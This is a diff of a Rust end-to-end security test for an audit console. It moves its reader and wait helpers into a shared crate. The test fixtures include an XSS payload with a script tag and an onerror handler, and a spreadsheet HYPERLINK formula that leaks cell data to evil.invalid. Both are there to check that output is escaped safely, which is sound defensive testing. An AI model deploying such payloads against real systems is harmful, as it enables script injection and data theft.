@@ -9,33 +9,18 @@
 use std::collections::HashMap;
 use std::ffi::OsStr;
 use std::path::{Path, PathBuf};
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use audit_store::{AlertFilter, AlertStatus, AuditReader, EventFilter, Outcome, StoredEvent};
 use headless_chrome::protocol::cdp::Page::CaptureScreenshotFormatOption;
 use headless_chrome::{Browser, LaunchOptions, Tab};
-use tokenwatch_e2e::{cli, data_dir, http, Server};
+use tokenwatch_e2e::{audit_reader, cli, data_dir, http, wait_for, Server};
 
 const ADMIN_PW: &str = "admin-password-for-the-ui-test";
 const ANALYST_PW: &str = "analyst-password-for-the-ui-test";
 /// Attacker-chosen text that the console must show and export harmlessly.
 const EVIL_USER: &str = "<script>window.__xss=1</script><img src=x onerror=\"window.__xss=2\">";
 const EVIL_UA: &str = "=HYPERLINK(\"http://evil.invalid/?leak=\"&A1,\"click me\")";
-
-fn reader(s: &Server) -> AuditReader {
-    AuditReader::open(&s.data_dir.join("audit.db")).expect("open the audit store read-only")
-}
-
-fn wait_for<T>(what: &str, mut probe: impl FnMut() -> Option<T>) -> T {
-    let deadline = Instant::now() + Duration::from_secs(60);
-    loop {
-        if let Some(v) = probe() {
-            return v;
-        }
-        assert!(Instant::now() < deadline, "timed out waiting for {what}");
-        std::thread::sleep(Duration::from_millis(100));
-    }
-}
 
 /// A server whose console users are `admin` and `analyst` with known passwords.
 fn server_with_users() -> (tempfile::TempDir, Server) {
@@ -184,7 +169,7 @@ fn csv_rows(text: &str) -> Vec<HashMap<String, String>> {
 fn console_in_a_real_browser() {
     let (_tmp, s) = server_with_users();
     attack(&s, EVIL_USER, 14);
-    let r = reader(&s);
+    let r = audit_reader(&s);
     let alert = wait_for("a brute-force alert", || {
         r.list_alerts(&AlertFilter::default(), None, 100)
             .unwrap()
@@ -554,7 +539,7 @@ impl<'a> Console<'a> {
 fn console_security_over_http() {
     let (_tmp, s) = server_with_users();
     attack(&s, "victim", 12);
-    let r = reader(&s);
+    let r = audit_reader(&s);
     let alert = wait_for("a brute-force alert", || {
         r.list_alerts(&AlertFilter::default(), None, 100)
             .unwrap()
